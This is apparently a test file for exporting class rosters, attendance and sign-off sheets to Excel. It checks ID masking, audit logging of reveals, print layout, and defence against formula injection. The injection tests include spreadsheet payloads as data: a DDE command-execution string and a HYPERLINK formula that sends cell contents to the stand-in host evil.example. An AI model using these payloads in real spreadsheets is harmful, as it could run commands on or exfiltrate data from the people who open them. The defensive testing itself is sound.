/** What goes out: text only, masked unless a reason was given, and then written down first. */
import ExcelJS from 'exceljs';
import { enrol } from '../../lib/classes/enrol';
import { readLessons } from '../../lib/classes/read';
import { registerByOffice } from '../../lib/people/register-by-office';
import { dayOf } from '../../lib/platform/clock';
import { isRefusal } from '../../lib/platform/refusal';
import { exportSheet, type SheetFile } from '../../lib/sheets/export';
import { signOffLayouts } from '../../lib/sheets/layouts/sign-off';
import { writeSheet } from '../../lib/sheets/write-sheet';
import { openZip } from '../../lib/sheets/zip';
import { keys } from '../../lib/store/keys';
import { memoryTable } from '../../lib/store/memory';
import { must, newWorker, openClass } from '../support/town';
import { syntheticIdNumber, type TestWorld, testWorld } from '../support/world';

let world: TestWorld;
let class_id: string;
beforeAll(async () => {
  world = testWorld(memoryTable());
  ({ class_id } = await openClass(world, { capacity: 10 }));
  for (let n = 501; n <= 503; n++) {
    const worker = await newWorker(world, n);
    await must(world, () => enrol(world, { class_id, worker, by: 'chat' }));
  }
});

async function opened(file: SheetFile | { refused: string }): Promise<ExcelJS.Workbook> {
  if (isRefusal(file)) throw new Error(file.refused);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from((file as SheetFile).bytes) as any);
  return book;
}
const all = (book: ExcelJS.Workbook) =>
  book.worksheets.flatMap((sheet) => {
    const cells: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    return cells;
  });
const audit = async () => (await world.table.query({ pk: keys.audit(dayOf(world.now()), '').pk })).items;

it('the roster is masked, in the columns offices file, ready to print', async () => {
  const book = await opened(await exportSheet(world, class_id, 'roster'));
  const sheet = book.worksheets[0]!;
  const header = (sheet.getRow(5).values as string[]).slice(1);
  expect(header).toEqual([
    '序号',
    '姓名',
    '性别',
    '身份证号',
    '民族',
    '文化程度',
    '户籍地址',
    '人员类别',
    '工作单位',
    '联系电话',
    '工种',
    '等级',
    '本人签字',
    '备注',
  ]);
  const { paperSize, orientation, fitToWidth, printTitlesRow } = sheet.pageSetup;
  expect({ paperSize, orientation, fitToWidth, printTitlesRow }).toEqual({
    paperSize: 9,
    orientation: 'landscape',
    fitToWidth: 1,
    printTitlesRow: '1:5',
  });
  expect(sheet.headerFooter.oddFooter).toContain('&P');
  const text = all(book)
    .map((cell) => cell.text)
    .join('\n');
  expect(text).toContain('530128********5017');
  expect(text).not.toContain(syntheticIdNumber(501));
  expect(await audit()).toEqual([]);
});

it('whole numbers come with a reason, which is written down with who and how many', async () => {
  const book = await opened(
    await exportSheet(world, class_id, 'roster', { reader: 'officer-1', reason: '报县人社局' }),
  );
  expect(all(book).map((cell) => cell.text)).toEqual(expect.arrayContaining([syntheticIdNumber(501), '13800000501']));
  expect(await audit()).toMatchObject([
    { what: 'reveal_roster', class_id, people: 3, reader: 'officer-1', reason: '报县人社局' },
  ]);
});

it('no record, no numbers: what cannot be written down is not opened', async () => {
  const broken = {
    ...world,
    table: { ...world.table, write: () => Promise.reject(new Error('no table')) },
    vault: { ...world.vault, open: () => Promise.reject(new Error('opened before it was written down')) },
  };
  await expect(exportSheet(broken, class_id, 'roster', { reader: 'x', reason: '报送' })).rejects.toThrow('no table');
});

it.each(['attendance', 'sign-off', 'scores'] as const)('%s shows no whole number and no formula', async (name) => {
  const cells = all(await opened(await exportSheet(world, class_id, name)));
  expect(cells.length).toBeGreaterThan(30);
  for (const cell of cells) {
    expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
    expect(cell.text).not.toMatch(/\d{17}[\dX]|\d{11}/);
  }
});

it('what begins like a formula goes out as the text it is', async () => {
  const nasty = ['=1+1', '+1', '-1', '@SUM(A1)', "=cmd|'/c calc'!A1", '\t=1'];
  const bytes = await writeSheet({
    sheet: 's',
    columns: [{ title: '=A1', width: 9 }],
    rows: nasty.map((one) => [one]),
  });
  const cells = all(await opened({ name: '', bytes }));
  expect(cells.map((cell) => [cell.type, cell.value, cell.numFmt])).toEqual(
    ['=A1', ...nasty].map((one) => [ExcelJS.ValueType.String, one, '@']),
  );
});

it('a worker’s employer that begins like a formula is inert in every sheet an officer opens', async () => {
  const home = await openClass(world, { capacity: 10 });
  const nasty = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)'];
  for (const [i, employer] of nasty.entries()) {
    const registered = await must(world, () =>
      registerByOffice(world, {
        ...{ name: '王小妹', id_number: syntheticIdNumber(510 + i), phone: `1380000051${i}`, employer },
        ...{ site_region: '652302', site_text: employer, groups: ['=A1'], by: 'officer-1' },
        consent: { version: '1', at: '2025-07-10T10:00:00+08:00', basis: 'paper' },
      }),
    );
    const { worker } = registered;
    await must(world, () => enrol(world, { class_id: home.class_id, worker, by: 'chat' }));
  }
  for (const name of ['roster', 'attendance', 'sign-off', 'scores'] as const) {
    const file = (await exportSheet(world, home.class_id, name)) as SheetFile;
    const zip = openZip(Buffer.from(file.bytes));
    for (const part of zip.names.filter((one) => one.endsWith('.xml') || one.endsWith('.rels'))) {
      const xml = zip.read(part)!.toString();
      expect([part, /<f[ >]|<hyperlink|externalLink|ddeLink/.exec(xml)?.[0]]).toEqual([part, undefined]);
    }
  }
  const cells = all(await opened(await exportSheet(world, home.class_id, 'roster')));
  for (const employer of nasty)
    expect(cells.find((cell) => cell.value === employer)).toMatchObject({
      type: ExcelJS.ValueType.String,
      numFmt: '@',
    });
});

it('each day of lessons has its cells to sign, and no day is torn in two', async () => {
  const c = { class_id, timetable_rev: 1 } as any;
  const lessons = await readLessons(world, c);
  const pages = signOffLayouts(
    { ...c, title: '电工班', starts_at: '2025-07-24', ends_at: '2025-07-31', level: '5' } as any,
    lessons,
    [],
  );
  expect(pages.reduce((sum, page) => sum + page.columns.length - 2, 0)).toBe(lessons.length);
  const days = pages.flatMap((page) => page.groups!.slice(1).map(([day]) => day));
  expect(new Set(days).size).toBe(days.length);
  for (const page of pages) expect(page.columns.length - 2).toBeLessThanOrEqual(8);
});

it('what is longer than its place makes its row higher: names of minorities, the lines over a narrow table, the legend', async () => {
  const sheet = async (name: string, site_name: string) => {
    const c = {
      class_id: 'A1',
      title: '电工班',
      trade_name: '电工',
      level: '5',
      units: 8,
      site_name,
      address: '',
    } as any;
    const lesson = { n: 1, starts_at: '2025-07-24T08:00:00+08:00', ends_at: '2025-07-24T11:45:00+08:00' } as any;
    const [layout] = signOffLayouts(
      { ...c, starts_at: lesson.starts_at, ends_at: lesson.ends_at },
      [lesson],
      [{ name } as any],
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await writeSheet(layout!)) as any);
    return book.worksheets[0]!;
  };
  const short = await sheet('张三', '县城');
  const long = await sheet('阿布都热合曼·买买提·阿布都拉', '阿克塞哈萨克族自治县职业技术教育培训中心东校区');
  for (const row of [2, 6]) expect(long.getRow(row).height).toBeGreaterThan(short.getRow(row).height);
  expect(long.getRow(7).height).toBe(short.getRow(7).height);
});
